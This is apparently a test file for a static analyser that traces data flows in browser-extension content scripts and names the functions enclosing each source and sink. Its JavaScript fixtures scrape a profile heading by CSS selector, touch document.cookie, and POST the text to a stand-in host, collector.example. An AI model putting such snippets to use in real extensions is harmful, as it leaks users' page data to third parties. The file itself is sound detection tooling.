"""The functions that flows run through, and those that facts stand in."""

from tests.flow.made import analysed

_CODE = """function send(data) {
  fetch("https://collector.example/p", {method: "POST", body: data});
}
function profile() {
  const read = () => document.querySelector(".text-heading-xlarge").innerText;
  send(read());
}
document.cookie; profile();
"""


def test_the_functions_of_a_flow_begin_with_those_around_its_source() -> None:
    (flow,) = analysed({"content.js": _CODE}).flows
    assert flow.functions == ("content.js:5:16", "content.js:4:1", "content.js:1:1")


def test_what_stands_at_the_top_of_a_script_is_in_no_function() -> None:
    code = 'fetch("https://collector.example/p", {body: document.querySelector(".text-heading-xlarge").innerText});'
    (flow,) = analysed({"content.js": code}).flows
    assert flow.functions == ()


def test_a_fact_names_the_functions_around_it_innermost_first_and_its_contexts() -> None:
    facts = [fact for fact in analysed({"content.js": _CODE}).facts if fact.kind == "selector"]
    assert [(fact.functions, len(fact.contexts)) for fact in facts] == [(("content.js:5:16", "content.js:4:1"), 1)]


def test_functions_that_nest_without_end_are_named_up_to_a_bound() -> None:
    code = "(() => {" * 200 + 'document.querySelector(".text-heading-xlarge").innerText' + "})();" * 200
    (fact,) = [fact for fact in analysed({"content.js": code}).facts if fact.kind == "selector"]
    assert len(fact.functions) == 64
    assert fact.functions[0] == "content.js:1:1594"
